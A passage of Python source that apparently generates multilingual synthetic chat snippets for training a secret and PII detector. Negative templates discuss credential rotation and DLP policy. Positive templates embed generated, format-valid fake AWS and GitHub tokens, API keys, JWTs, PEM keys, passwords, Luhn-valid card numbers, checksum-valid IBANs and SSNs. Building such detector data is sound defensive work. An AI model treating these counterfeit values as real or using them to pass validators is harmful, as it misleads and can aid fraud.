             "ja": "質問: 委託先が抜けたので SIEM の取り込みトークンはローテーションが必要?", "fr": "Q : faut-il faire tourner le jeton SIEM après le départ du prestataire ?"})
    a = say({"en": "A: yes, anything they could read gets rotated; the token was in the shared vault folder, so it's on the list for %s." % pick(["Monday", "Thursday", "this sprint"]),
             "de": "A: ja, alles, was lesbar war, wird rotiert – steht für %s auf der Liste." % pick(["Montag", "Donnerstag"]),
             "es": "R: sí, todo lo que pudieran leer se rota; está en la lista para el %s." % pick(["lunes", "jueves"])})
    return q + "\n" + a

@neg(C)
def ts_incident_summary():
    return ("*Incident summary (%s)*\n• What: %s\n• Exposure: %d minutes, channel with %d members\n• Action: %s\n• Follow-up: %s" % (
        "SEC-%d" % R.randint(100, 9999),
        pick(["a GitHub token was pasted in a public repo issue", "an SSO test user's password was written in a ticket", "a private key was committed to the infra repo", "the scanner API key showed up in a screenshot"]),
        R.randint(2, 90), R.randint(5, 600), pick(["revoked and reissued", "rotated, history rewritten, cache purged", "credential disabled, audit log reviewed: no use"]),
        pick(["pre-commit secret scanning on all repos", "screenshot guidance in the onboarding", "push protection enabled org-wide"])))

@neg(C)
def ts_regex_talk():
    return say({
        "en": "The DLP regex for card numbers must validate Luhn, otherwise every 16-digit order id and every epoch-ms timestamp pair is a hit. Same for IBAN: check mod 97, not just the country prefix.",
        "de": "Die DLP-Regex für Kartennummern muss Luhn prüfen, sonst trifft sie jede 16-stellige Bestellnummer. Bei IBANs bitte Modulo 97 prüfen.",
        "fr": "La regex DLP des cartes doit vérifier Luhn, sinon chaque numéro de commande à 16 chiffres est détecté. Pour les IBAN, vérifier le modulo 97.",
        "ja": "カード番号の DLP 正規表現は Luhn チェック必須。IBAN は mod 97 を確認すること。",
    })

@neg(C)
def ts_vault_error():
    return ("```\nError making API request.\n\nURL: GET https://vault.corp.internal:8200/v1/secret/data/%s\nCode: 403. Errors:\n\n* permission denied\n```\n%s" % (
        pick(SVC), say({"en": "policy doesn't grant read on that path, which is correct — the password is only for the rotator role",
                        "de": "die Policy erlaubt kein Lesen – richtig so, das Passwort ist nur für die Rotator-Rolle",
                        "ru": "у политики нет прав на чтение — так и задумано, пароль только для роли ротатора",
                        "zh": "策略没有读权限，这是对的——这个密码只给轮换角色用"})))

@neg(C)
def ts_mfa_policy():
    return say({
        "en": "Conditional access update: phishing-resistant MFA (FIDO2 / platform passkeys) required for admins from %s; SMS codes no longer accepted for anyone. Users with only a phone number on file get a nudge to enrol." % pick(["Monday", "1 March", "next sprint"]),
        "de": "Conditional-Access-Update: Für Admins ist ab %s phishing-resistente MFA (FIDO2) Pflicht, SMS-Codes werden nicht mehr akzeptiert." % pick(["Montag", "1. März"]),
        "ko": "조건부 액세스 변경: 관리자는 FIDO2 MFA 필수, SMS 코드는 더 이상 허용하지 않습니다.",
        "pt": "Mudança no acesso condicional: MFA resistente a phishing (FIDO2) obrigatório para admins; códigos por SMS não são mais aceitos.",
    })

@neg(C)
def ts_faq():
    return ("*FAQ — secrets in tickets*\n%s\n%s\n%s" % (
        "- " + say({"en": "Can I attach the .env to the ticket? No. Link to the vault path instead.", "de": "Darf ich die .env anhängen? Nein, nur den Vault-Pfad verlinken.", "es": "¿Puedo adjuntar el .env? No, enlaza la ruta del vault."}),
        "- " + say({"en": "What if a customer sends their card number in chat? Delete the message, tell them we never need it, note the ticket.", "fr": "Un client envoie son numéro de carte ? Supprimer le message, expliquer qu'on n'en a jamais besoin.", "it": "Un cliente invia il numero di carta? Cancellare il messaggio e annotarlo nel ticket."}),
        "- " + say({"en": "Who can see the SSN field in HRIS? Only payroll; IT has no access and doesn't need it.", "ja": "HRIS の社会保障番号欄を見られるのは給与担当のみ。IT は閲覧不可です。", "pl": "Kto widzi numer PESEL w HRIS? Tylko kadry; IT nie ma dostępu."})))

@neg(C)
def ts_rotation_calendar():
    rows = [(pick(SVC), pick(["API token", "OIDC client secret", "service account password", "SAML signing cert", "webhook signing secret", "SSH host keys"]),
             pick(["90 d", "180 d", "365 d", "2 y"]), "2026-%02d-%02d" % (R.randint(1, 12), R.randint(1, 28)), pick(["automated", "manual", "automated (ESO)", "manual, 2 people"])) for _ in range(R.randint(4, 8))]
    head = say({"en": "Rotation calendar (what, not the values):", "de": "Rotationskalender (nur was, keine Werte):", "fr": "Calendrier de rotation (quoi, pas les valeurs) :",
                "ja": "ローテーション予定表（値は載せていません）:", "ko": "교체 일정표 (값은 없음):", "ru": "График ротации (без значений):"})
    return head + "\n| system | credential | period | next | how |\n|---|---|---|---|---|\n" + "\n".join("| %s | %s | %s | %s | %s |" % r for r in rows)

@neg(C)
def ts_allowlist_debate():
    return say({
        "en": "Re the gitleaks allowlist: I'd rather not allowlist the whole `docs/` folder. Allowlist by fingerprint per finding, so a real key pasted into a doc later still fires. The %d current findings there are all SRI hashes and icon data URIs." % R.randint(12, 300),
        "de": "Zur gitleaks-Allowlist: bitte nicht den ganzen `docs/`-Ordner freigeben, sondern pro Fund über den Fingerprint. Die %d aktuellen Treffer sind alles SRI-Hashes und Icons." % R.randint(12, 300),
        "pl": "Co do allowlisty gitleaks: nie dodawajmy całego `docs/`, tylko pojedyncze fingerprinty. Obecne %d trafień to hashe SRI i ikony." % R.randint(12, 300),
        "zh": "关于 gitleaks 白名单：不要把整个 `docs/` 加进去，按指纹逐条放行。目前 %d 条命中都是 SRI 哈希和图标。" % R.randint(12, 300),
    })

@neg(C)
def ts_policy_thread():
    msgs = [
        say({"en": "> why did we drop the 90-day password expiry?", "de": "> warum haben wir den 90-Tage-Passwortwechsel abgeschafft?", "es": "> ¿por qué quitamos la caducidad de 90 días?", "ja": "> なぜ90日ごとのパスワード変更をやめたの？"}),
        say({"en": "because forced rotation makes people pick `Summer2026!` → `Autumn2026!`. Length + breach check + MFA does more.",
             "de": "weil erzwungener Wechsel zu Mustern wie Jahreszeit+Jahr führt. Länge, Abgleich mit geleakten Passwörtern und MFA bringen mehr.",
             "es": "porque la rotación forzada lleva a patrones predecibles. Longitud, comprobación de filtraciones y MFA funcionan mejor.",
             "ja": "強制変更は予測しやすいパターンを生むから。長さ・漏洩チェック・MFA の方が効果的。"}),
        say({"en": "we still force a reset on evidence of compromise, e.g. a phishing submission.", "de": "bei Verdacht auf Kompromittierung setzen wir trotzdem zurück.",
             "es": "si hay indicios de compromiso, se fuerza el cambio igualmente.", "ja": "侵害の疑いがある場合は引き続きリセットを強制します。"}),
    ]
    return "\n".join(msgs[:R.randint(2, 3)])

@neg(C)
def ts_cert_rollover():
    return say({
        "en": "SAML cert rollover for %s: new signing cert is already in the IdP metadata as secondary; SP side re-imports metadata on %s; the private key never leaves the HSM, so nothing to hand over." % (pick(["Workday", "the expense portal", "Jira", "the VPN"]), pick(["Tuesday", "the 14th", "next week"])),
        "fr": "Bascule du certificat SAML pour %s : le nouveau certificat est déjà publié comme secondaire ; la clé privée reste dans le HSM." % pick(["Workday", "le portail notes de frais", "Jira"]),
        "it": "Rinnovo del certificato SAML per %s: il nuovo certificato è già nei metadata come secondario; la chiave privata resta nell'HSM." % pick(["Workday", "Jira", "la VPN"]),
        "ko": "%s SAML 인증서 교체: 새 서명 인증서는 이미 메타데이터에 보조로 게시됨, 개인키는 HSM 밖으로 나가지 않습니다." % pick(["Workday", "Jira", "VPN"]),
    })

@neg(C)
def ts_phish_awareness():
    return say({
        "en": "Awareness post draft: \"We will never ask for your password, MFA code, card number or bank details by email, chat or phone. If a message asks for any of these, use the Report Phish button.\"",
        "de": "Entwurf Awareness-Post: „Wir fragen nie per Mail, Chat oder Telefon nach Passwort, MFA-Code, Kartennummer oder Bankverbindung. Im Zweifel: Report-Phish-Button.“",
        "fr": "Brouillon : « Nous ne vous demanderons jamais votre mot de passe, code MFA, numéro de carte ou RIB par mail, chat ou téléphone. »",
        "pt": "Rascunho: \"Nunca pedimos sua senha, código MFA, número de cartão ou dados bancários por e-mail, chat ou telefone.\"",
        "ru": "Черновик: «Мы никогда не запрашиваем пароль, код MFA, номер карты или реквизиты по почте, в чате или по телефону».",
        "el": "Προσχέδιο: «Δεν θα σας ζητήσουμε ποτέ κωδικό πρόσβασης, κωδικό MFA ή αριθμό κάρτας μέσω email ή τηλεφώνου.»",
    }) + pick(["", " thoughts?", " 👍?", " cc security-awareness"])

# ================================================================ POSITIVES: value generators
A32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
URLSAFE = B62 + "_-"

def g_aws_id():
    while True:
        v = pick(["AKIA", "AKIA", "ASIA"]) + rs(16, A32)
        if "EXAMPLE" not in v:
            return v

def g_aws_secret():
    return rs(40, B62 + "+/")

def g_ghp():
    r = rs(30)
    return "ghp_" + r + crc32_b62(r)

def g_ghfg():
    return "github_pat_11" + rs(20, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") + "_" + rs(59)

def g_xoxb():
    return "xoxb-%d-%d-%s" % (R.randint(10 ** 10, 10 ** 12), R.randint(10 ** 12, 10 ** 13 - 1), rs(24))

def g_xoxp():
    return "xoxp-%d-%d-%d-%s" % (R.randint(10 ** 10, 10 ** 12), R.randint(10 ** 10, 10 ** 12), R.randint(10 ** 12, 10 ** 13 - 1), hx(32))

def g_openai():
    k = R.randrange(3)
    if k == 0:
        return "sk-proj-" + rs(74, URLSAFE) + "T3BlbkFJ" + rs(74, URLSAFE)
    if k == 1:
        return "sk-" + rs(20) + "T3BlbkFJ" + rs(20)
    return "sk-svcacct-" + rs(74, URLSAFE) + "T3BlbkFJ" + rs(74, URLSAFE)

def g_anthropic():
    return "sk-ant-api03-" + rs(93, URLSAFE) + "AA"

def g_jwt():
    if R.random() < 0.6:
        hdr = {"alg": "RS256", "kid": b64u(rb(16)), "typ": "JWT"}
        sig = b64u(rb(256))
    else:
        hdr = {"alg": "HS256", "typ": "JWT"}
        sig = b64u(rb(32))
    now = epoch()
    pl = {"iss": pick(["https://login.corp.example/oauth2/default", "https://sso.corp.example/realms/staff", "https://sts.windows.net/%s/" % uid()]),
          "sub": uid(), "aud": pick(["api://vuln-portal", "jamf-bridge", "siem-ui", "0oa%s" % rs(17)]), "iat": now, "exp": now + pick([300, 3600, 28800]),
          "scp": pick([["inventory.read"], ["openid", "profile"], ["devices.write", "devices.read"]])}
    enc = lambda o: b64u(json.dumps(o, separators=(",", ":")).encode())
    return enc(hdr) + "." + enc(pl) + "." + sig

def g_pem():
    """returns (begin_label, body_b64, kindname)"""
    k = R.randrange(3)
    priv = rb(32)
    pub = b"\x04" + rb(64)
    if k == 0:
        der = bytes.fromhex("30770201010420") + priv + bytes.fromhex("a00a06082a8648ce3d030107a144034200") + pub
        return "EC PRIVATE KEY", b64(der), "ec_sec1"
    if k == 1:
        der = bytes.fromhex("308187020100301306072a8648ce3d020106082a8648ce3d030107046d306b0201010420") + priv + bytes.fromhex("a144034200") + pub
        return "PRIVATE KEY", b64(der), "ec_pkcs8"
    der = bytes.fromhex("302e020100300506032b657004220420") + priv
    return "PRIVATE KEY", b64(der), "ed25519_pkcs8"

def g_password():
    k = R.randrange(3)
    if k == 0:
        return rs(R.randint(14, 22), B62 + "!#%^*_-+=")
    if k == 1:
        words = ["Tundra", "Kettle", "Orbit", "Maple", "Quartz", "Falcon", "Ember", "Harbor", "Lantern", "Cobalt", "Vivid", "Nimbus"]
        return "-".join(R.sample(words, 3)) + "-%d" % R.randint(10, 99)
    return rs(R.randint(10, 14)) + pick(["!", "#", "%", "*"]) + str(R.randint(10, 99))

FIRST = ["anna", "marek", "sofia", "kenji", "lucas", "priya", "oliver", "ines", "tomasz", "yuki", "fatima", "daniel", "chloe", "mateo", "hannah", "jonas", "leila", "raj", "elena", "noah"]
LAST = ["kowalski", "berger", "tanaka", "silva", "nguyen", "okafor", "lindqvist", "moreau", "garcia", "fischer", "haddad", "rossi", "novak", "campbell", "sato", "dubois", "petrov", "jensen"]
DOMS = ["northwind-logistics.com", "brightpath-health.de", "lumenco.fr", "kestrel-finance.co.uk", "orbitalsoft.io", "valemont.es", "harborline.nl", "quantix-labs.com", "gmail.com", "outlook.com", "proton.me"]

def g_email():
    f, l = pick(FIRST), pick(LAST)
    local = pick(["%s.%s" % (f, l), "%s%s" % (f[0], l), "%s_%s%d" % (f, l, R.randint(1, 99)), "%s.%s" % (l, f)])
    return local + "@" + pick(DOMS)

def g_phone():
    k = R.randrange(8)
    d = lambda n: "".join(str(R.randint(0, 9)) for _ in range(n))
    if k == 0:
        return "+1 (%d%s) %d%s-%s" % (R.randint(2, 9), d(2), R.randint(2, 9), d(2), d(4))
    if k == 1:
        return "+44 7%s %s" % (d(3), d(6))
    if k == 2:
        return "+49 15%d %s" % (R.randint(1, 9), d(8))
    if k == 3:
        return "+33 6 %s %s %s %s" % (d(2), d(2), d(2), d(2))
    if k == 4:
        return "090-%s-%s" % (d(4), d(4))
    if k == 5:
        return "+34 6%s %s %s" % (d(2), d(3), d(3))
    if k == 6:
        return "+31 6 %s" % d(8)
    return "%d%s-%d%s-%s" % (R.randint(2, 9), d(2), R.randint(2, 9), d(2), d(4))

def g_card():
    k = R.randrange(4)
    pre, n = [("4", 16), (str(R.randint(51, 55)), 16), (pick(["34", "37"]), 15), ("6011", 16)][k]
    body = pre + "".join(str(R.randint(0, 9)) for _ in range(n - len(pre) - 1))
    for c in "0123456789":
        if luhn_ok(body + c):
            num = body + c
            break
    f = R.randrange(3)
    if n == 15:
        groups = [num[:4], num[4:10], num[10:]]
    else:
        groups = [num[i:i + 4] for i in range(0, 16, 4)]
    return [num, " ".join(groups), "-".join(groups)][f]

def iban_check(cc, bban):
    s = bban + cc + "00"
    n = int("".join(str(int(ch, 36)) for ch in s))
    return "%02d" % (98 - n % 97)

def g_iban():
    d = lambda n: "".join(str(R.randint(0, 9)) for _ in range(n))
    cc = pick(["DE", "GB", "NL", "AT", "CH", "BE"])
    if cc == "DE":
        bban = d(18)
    elif cc == "GB":
        bban = pick(["NWBK", "BARC", "LOYD", "HBUK", "MIDL"]) + d(14)
    elif cc == "NL":
        bban = pick(["ABNA", "INGB", "RABO", "TRIO"]) + d(10)
    elif cc == "AT":
        bban = d(16)
    elif cc == "CH":
        bban = d(17)
    else:
        x = d(10)
        c = int(x) % 97 or 97
        bban = x + "%02d" % c
    iban = cc + iban_check(cc, bban) + bban
    if R.random() < 0.5:
        return " ".join(iban[i:i + 4] for i in range(0, len(iban), 4))
    return iban

def g_ssn():
    while True:
        a = R.randint(1, 899)
        if a != 666:
            break
    return "%03d-%02d-%04d" % (a, R.randint(1, 99), R.randint(1, 9999))

def g_ipv4():
    while True:
        ip = ipaddress.IPv4Address(R.getrandbits(32))
        if ip.is_global and not ip.is_multicast and ip not in ipaddress.ip_network("100.64.0.0/10") and int(str(ip).split(".")[0]) not in (0, 127) and int(str(ip).split(".")[0]) < 224:
            return str(ip)

# ================================================================ POSITIVE templates
POS = {}

def pos(kind):
    def deco(f):
        POS.setdefault(kind, []).append(f)
        return f
    return deco

def maybe_lead(p=0.3):
    return (lead(0.7) + " ") if R.random() < p else ""

# --- aws_access_key_id
@pos("aws_access_key_id")
def p_aws1():
    v = g_aws_id()
    return "%sCloudTrail shows `CreateUser` from access key %s at %s — whose key is this? It's not in the IAM inventory." % (maybe_lead(), v, ts()), [("aws_access_key_id", v)]

@pos("aws_access_key_id")
def p_aws2():
    v = g_aws_id()
    return "```\n$ trufflehog git file://. --only-verified\nFound verified result 🐷🔑\nDetector Type: AWS\nRaw result: %s\nFile: ansible/group_vars/backup.yml\nLine: %d\nCommit: %s\n```" % (v, R.randint(3, 90), hx(40)), [("aws_access_key_id", v)]

@pos("aws_access_key_id")
def p_aws3():
    v = g_aws_id()
    return say({"en": "GuardDuty finding `UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration` for key `%s`, deactivating now." % v,
                "de": "GuardDuty meldet Exfiltration für den Key `%s`, ich deaktiviere ihn jetzt." % v,
                "ja": "GuardDuty がキー `%s` の認証情報流出を検知、今から無効化します。" % v}), [("aws_access_key_id", v)]

@pos("aws_access_key_id")
def p_aws4():
    v = g_aws_id()
    return "```bash\n# backup-agent user-data (found on the old AMI)\nexport AWS_ACCESS_KEY_ID=%s\nexport AWS_DEFAULT_REGION=eu-west-1\n```" % v, [("aws_access_key_id", v)]

# --- github
@pos("github_classic_pat")
def p_gh1():
    v = g_ghp()
    return "%sthe runner config still uses a classic PAT: `%s` — can someone move it to the GitHub App?" % (maybe_lead(), v), [("github_classic_pat", v)]

@pos("github_classic_pat")
def p_gh2():
    v = g_ghp()
    return "```\n$ git remote -v\norigin  https://%s@github.com/corp/firewall-as-code.git (fetch)\n```\n%s" % (v, say({"en": "found this on the jump host", "de": "auf dem Jump-Host gefunden", "ru": "нашёл на jump-хосте"})), [("github_classic_pat", v)]

@pos("github_classic_pat")
def p_gh3():
    v = g_ghp()
    return "```yaml\n# renovate-config.yaml on the ops box\ntoken: %s\nplatform: github\n```" % v, [("github_classic_pat", v)]

@pos("github_fine_grained_pat")
def p_ghf1():
    v = g_ghfg()
    return "%sfine-grained token for the SBOM upload job (read-only on `corp/*`): %s" % (maybe_lead(), v), [("github_fine_grained_pat", v)]

@pos("github_fine_grained_pat")
def p_ghf2():
    v = g_ghfg()
    return "```\nGH_TOKEN=%s gh api /orgs/corp/dependabot/alerts --paginate > alerts.json\n```" % v, [("github_fine_grained_pat", v)]

@pos("github_fine_grained_pat")
def p_ghf3():
    v = g_ghfg()
    return say({"en": "temporary token until the app is approved: `%s` (expires Friday)" % v, "es": "token temporal hasta que aprueben la app: `%s`" % v,
                "ko": "앱 승인 전까지 임시 토큰: `%s`" % v}), [("github_fine_grained_pat", v)]

# --- slack
@pos("slack_bot_token")
def p_sb1():
    v = g_xoxb()
    return "%sthe phish-triage bot is failing with `invalid_auth`; the token in the k8s secret is `%s`, is that the old workspace?" % (maybe_lead(), v), [("slack_bot_token", v)]

@pos("slack_bot_token")
def p_sb2():
    v = g_xoxb()
    return "```python\nclient = WebClient(token=\"%s\")\nclient.chat_postMessage(channel=\"#vuln-alerts\", text=summary)\n```" % v, [("slack_bot_token", v)]

@pos("slack_bot_token")
def p_sb3():
    v = g_xoxb()
    return "```\ncurl -s -H 'Authorization: Bearer %s' https://slack.com/api/auth.test\n{\"ok\":true,\"team\":\"corp\",\"bot_id\":\"B0%s\"}\n```" % (v, rs(9, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")), [("slack_bot_token", v)]

@pos("slack_user_token")
def p_su1():
    v = g_xoxp()
    return "%sthe offboarding script uses my user token for the SCIM calls: %s (I know, I know)" % (maybe_lead(), v), [("slack_user_token", v)]

@pos("slack_user_token")
def p_su2():
    v = g_xoxp()
    return "```ini\n[slack]\naudit_logs_token = %s\n```" % v, [("slack_user_token", v)]

# --- openai / anthropic
@pos("openai_api_key")
def p_oa1():
    v = g_openai()
    return "%sthe phishing classifier prototype has `OPENAI_API_KEY=%s` hardcoded in the notebook" % (maybe_lead(), v), [("openai_api_key", v)]

@pos("openai_api_key")
def p_oa2():
    v = g_openai()
    return "```python\nclient = OpenAI(api_key=\"%s\")\nresp = client.responses.create(model=\"gpt-4.1-mini\", input=headers_text)\n```" % v, [("openai_api_key", v)]

@pos("openai_api_key")
def p_oa3():
    v = g_openai()
    return say({"en": "Gitleaks hit in `triage-ai/config.yaml`: `api_key: %s`" % v, "de": "Gitleaks-Treffer in `triage-ai/config.yaml`: `api_key: %s`" % v,
                "zh": "Gitleaks 在 `triage-ai/config.yaml` 中发现：`api_key: %s`" % v}), [("openai_api_key", v)]

@pos("anthropic_api_key")
def p_an1():
    v = g_anthropic()
    return "%sANTHROPIC_API_KEY=%s" % (maybe_lead(0.5), v), [("anthropic_api_key", v)]

@pos("anthropic_api_key")
def p_an2():
    v = g_anthropic()
    return "```ts\nconst anthropic = new Anthropic({ apiKey: \"%s\" });\n```\nthis is in the SOC assistant repo, public mirror too" % v, [("anthropic_api_key", v)]

@pos("anthropic_api_key")
def p_an3():
    v = g_anthropic()
    return "```\n$ env | grep -i key\nANTHROPIC_API_KEY=%s\nSCANNER_MODE=full\n```" % v, [("anthropic_api_key", v)]

# --- jwt
@pos("jwt")
def p_jwt1():
    v = g_jwt()
    return "%sid_token from the HAR of the failing OIDC login, can someone check the `aud`?\n```\n%s\n```" % (maybe_lead(), v), [("jwt", v)]

@pos("jwt")
def p_jwt2():
    v = g_jwt()
    return "```\ncurl -H \"Authorization: Bearer %s\" https://assets.corp.example/api/v2/devices?compliant=false\n```" % v, [("jwt", v)]

@pos("jwt")
def p_jwt3():
    v = g_jwt()
    return say({"en": "access token from the Jamf bridge log: %s" % v, "fr": "jeton d'accès trouvé dans le log du pont Jamf : %s" % v,
                "ja": "Jamf ブリッジのログに出ていたアクセストークン: %s" % v, "pl": "token dostępu z logu mostka Jamf: %s" % v}), [("jwt", v)]

# --- private key
@pos("private_key_pem")
def p_pem1():
    lab, body, t = g_pem()
    lines = wrap64(body)
    return "%sSP signing key for the expense app SAML integration — found in the wiki attachment:\n```\n-----BEGIN %s-----\n%s\n-----END %s-----\n```" % (maybe_lead(), lab, lines, lab), [("private_key_pem", lines)]

@pos("private_key_pem")
def p_pem2():
    lab, body, t = g_pem()
    lines = wrap64(body)
    ind = "\n      "
    return "```yaml\nsaml:\n  sp:\n    entityId: https://expenses.corp.example/saml\n    privateKey: |\n      -----BEGIN %s-----\n      %s\n      -----END %s-----\n```" % (lab, lines.replace("\n", ind), lab), [("private_key_pem", lines.replace("\n", ind))]

@pos("private_key_pem")
def p_pem3():
    lab, body, t = g_pem()
    lines = wrap64(body)
    esc = lines.replace("\n", "\\n")
    return "```json\n{\"type\": \"service_account\", \"key_id\": \"%s\", \"private_key\": \"-----BEGIN %s-----\\n%s\\n-----END %s-----\\n\"}\n```" % (hx(40), lab, esc, lab), [("private_key_pem", esc)]

# --- password
@pos("password")
def p_pw1():
    v = g_password()
    return "%sthe LDAP bind for the printers is `cn=svc-print,ou=service,dc=corp,dc=internal` / `%s` — please put it in the vault, it's been in this channel since March" % (maybe_lead(), v), [("password", v)]

@pos("password")
def p_pw2():
    v = g_password()
    return "```\nServer=%s;Database=CMDB;User Id=svc_cmdb;Password=%s;Encrypt=True;\n```" % (priv_ip(), v), [("password", v)]

@pos("password")
def p_pw3():
    v = g_password()
    return say({"en": "new wifi password for the SOC room is %s (guest network stays the same)" % v,
                "de": "Das neue WLAN-Passwort für den SOC-Raum ist %s" % v,
                "es": "la nueva contraseña del wifi de la sala SOC es %s" % v,
                "ja": "SOC ルームの新しい Wi-Fi パスワードは %s です" % v,
                "ru": "новый пароль от Wi-Fi в комнате SOC: %s" % v}), [("password", v)]

@pos("password")
def p_pw4():
    v = g_password()
    return "```properties\n# application-prod.properties (scanner-api)\nspring.datasource.url=jdbc:postgresql://%s:5432/scans\nspring.datasource.username=scanner\nspring.datasource.password=%s\n```" % (priv_ip(), v), [("password", v)]

@pos("password")
def p_pw5():
    v = g_password()
    return "%sBIOS admin password for the kiosk fleet (%s series): %s" % (maybe_lead(), pick(["OptiPlex", "ThinkCentre", "EliteDesk"]), v), [("password", v)]

# --- url_credentials
@pos("url_credentials")
def p_uc1():
    v = g_password().replace("%", "").replace("#", "")
    return "```\nDATABASE_URL=postgres://dtrack:%s@%s:5432/dtrack?sslmode=require\n```" % (v, priv_ip()), [("url_credentials", v)]

@pos("url_credentials")
def p_uc2():
    v = g_password().replace("%", "").replace("#", "")
    return "%sthe syslog forwarder posts to `https://siem-ingest:%s@collector.corp.example:8088/services/collector` — basic auth in the URL, ugh" % (maybe_lead(), v), [("url_credentials", v)]

@pos("url_credentials")
def p_uc3():
    v = g_password().replace("%", "").replace("#", "")
    return "```python\nbroker_url = \"amqps://phishbot:%s@mq.corp.example:5671/triage\"\n```" % v, [("url_credentials", v)]

@pos("url_credentials")
def p_uc4():
    v = g_password().replace("%", "").replace("#", "")
    return "```\nredis-cli -u redis://:%s@%s:6379/2 KEYS 'session:*' | wc -l\n```" % (v, priv_ip()), [("url_credentials", v)]

# --- email
@pos("email_address")
def p_em1():
    v = g_email()
    return "%sreported by %s via the Report Phish button, subject \"Your mailbox is almost full\"" % (maybe_lead(), v), [("email_address", v)]

@pos("email_address")
def p_em2():
    v = g_email()
    return "```\nFrom: \"IT Service Desk\" <%s>\nSubject: Password expiry notice\nX-MS-Exchange-Organization-Network-Message-Id: %s\n```" % (v, uid()), [("email_address", v)]

@pos("email_address")
def p_em3():
    v = g_email()
    return say({"en": "the laptop %s is assigned to %s, please ping them before wiping" % (asset_tag(), v),
                "de": "Der Laptop %s gehört %s, bitte vor dem Wipe Bescheid geben" % (asset_tag(), v),
                "fr": "le portable %s est attribué à %s, prévenir avant l'effacement" % (asset_tag(), v),
                "ko": "노트북 %s 는 %s 에게 할당되어 있습니다" % (asset_tag(), v)}), [("email_address", v)]

@pos("email_address")
def p_em4():
    v = g_email()
    return "```\nAuth failure for user %s from app \"VPN\" (reason: MFA_DENIED)\n```" % v, [("email_address", v)]

# --- phone
@pos("phone_number")
def p_ph1():
    v = g_phone()
    return "%soff-hours escalation for the firewall change tonight: %s" % (maybe_lead(), v), [("phone_number", v)]

@pos("phone_number")
def p_ph2():
    v = g_phone()
    return say({"en": "vishing attempt: caller claimed to be the helpdesk, number shown was %s" % v,
                "de": "Vishing-Versuch, angezeigte Nummer war %s" % v,
                "es": "intento de vishing, el número que apareció fue %s" % v,
                "ja": "ビッシングの試み、表示された番号は %s" % v,
                "nl": "vishingpoging, het getoonde nummer was %s" % v}), [("phone_number", v)]

@pos("phone_number")
def p_ph3():
    v = g_phone()
    return "| device | owner phone (MDM) |\n|---|---|\n| %s | %s |" % (hostname(), v), [("phone_number", v)]

# --- card
@pos("credit_card")
def p_cc1():
    v = g_card()
    return "%sthe phishing kit's log file was readable; one entry had card %s — bank notified, card blocked" % (maybe_lead(), v), [("credit_card", v)]

@pos("credit_card")
def p_cc2():
    v = g_card()
    return "```\n[%s] POST /checkout.php cc=%s exp=%02d/%d cvv=***\n```" % (ts(), v, R.randint(1, 12), R.randint(27, 31)), [("credit_card", v)]

@pos("credit_card")
def p_cc3():
    v = g_card()
    return say({"en": "corporate card used for the cert renewal: %s" % v, "de": "Firmenkarte für die Zertifikatsverlängerung: %s" % v,
                "it": "carta aziendale usata per il rinnovo del certificato: %s" % v, "zh": "续费证书用的公司卡：%s" % v}), [("credit_card", v)]

# --- iban
@pos("iban")
def p_ib1():
    v = g_iban()
    return "%sBEC attempt: \"supplier\" asks to change the bank details to IBAN %s from next invoice" % (maybe_lead(), v), [("iban", v)]

@pos("iban")
def p_ib2():
    v = g_iban()
    return say({"en": "the fake invoice PDF lists %s as the payment account" % v,
                "de": "Die gefälschte Rechnung nennt %s als Zahlungskonto" % v,
                "fr": "la fausse facture indique l'IBAN %s" % v,
                "nl": "de valse factuur vermeldt IBAN %s" % v,
                "pl": "fałszywa faktura podaje konto %s" % v}), [("iban", v)]

@pos("iban")
def p_ib3():
    v = g_iban()
    return "```\nvendor_id,name,iban,changed_at\nV-%05d,Acme Hardware GmbH,%s,%s\n```" % (R.randint(1, 99999), v, ts()[:10]), [("iban", v)]

# --- ssn
@pos("us_ssn")
def p_ss1():
    v = g_ssn()
    return "%sthe W-2 phishing reply contained an SSN in the body (%s); HR and legal looped in" % (maybe_lead(), v), [("us_ssn", v)]

@pos("us_ssn")
def p_ss2():
    v = g_ssn()
    return "```\nemployee_id,ssn,state\nE%06d,%s,CA\n```\nthis CSV was on the shared drive with everyone-read" % (R.randint(1, 999999), v), [("us_ssn", v)]

@pos("us_ssn")
def p_ss3():
    v = g_ssn()
    return say({"en": "DLP caught SSN %s in an outbound mail to a personal account" % v,
                "de": "DLP hat die SSN %s in einer ausgehenden Mail erkannt" % v,
                "ja": "DLP が送信メール内の SSN %s を検知しました" % v}), [("us_ssn", v)]

# --- ipv4
@pos("ipv4_address")
def p_ip1():
    v = g_ipv4()
    return "%spassword spray against the SSO portal, all from %s, %d attempts in %d min" % (maybe_lead(), v, R.randint(200, 5000), R.randint(3, 40)), [("ipv4_address", v)]

@pos("ipv4_address")
def p_ip2():
    v = g_ipv4()
    return "```\n%s DROP IN=wan0 SRC=%s DST=%s PROTO=TCP SPT=%d DPT=3389\n```" % (ts(), v, priv_ip(), R.randint(1024, 65535)), [("ipv4_address", v)]

@pos("ipv4_address")
def p_ip3():
    v = g_ipv4()
    return say({"en": "the phishing link resolves to %s, blocklisted on the proxy" % v,
                "de": "Der Phishing-Link zeigt auf %s, im Proxy gesperrt" % v,
                "ru": "фишинговая ссылка ведёт на %s, заблокировали на прокси" % v,
                "pt": "o link de phishing aponta para %s, bloqueado no proxy" % v}), [("ipv4_address", v)]

@pos("ipv4_address")
def p_ip4():
    v = g_ipv4()
    return "```\nReceived: from mail.invoice-portal.example (unknown [%s])\n  by mx.corp.internal with ESMTPS id %s\n```" % (v, hx(12).upper()), [("ipv4_address", v)]

# --- multi
MULTI = []

def multi(f):
    MULTI.append(f)
    return f

@multi
def m_aws_pair():
    a, s = g_aws_id(), g_aws_secret()
    return ("%s\n```ini\n[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n```" % (
        say({"en": "this was in a screenshot attached to the helpdesk ticket:", "de": "Das war auf einem Screenshot im Helpdesk-Ticket:", "ja": "ヘルプデスクのチケットに添付されたスクショに写っていました:"}), a, s),
        [("aws_access_key_id", a), ("aws_secret_access_key", s)], "aws_pair")

@multi
def m_phish_triage():
    e, ip = g_email(), g_ipv4()
    return ("Phish triage:\n```\nReturn-Path: <%s>\nReceived: from [%s] by mx.corp.internal\nAuthentication-Results: spf=fail; dkim=none; dmarc=fail\n```" % (e, ip), [("email_address", e), ("ipv4_address", ip)], "phish_triage")

@multi
def m_bec():
    i, e = g_iban(), g_email()
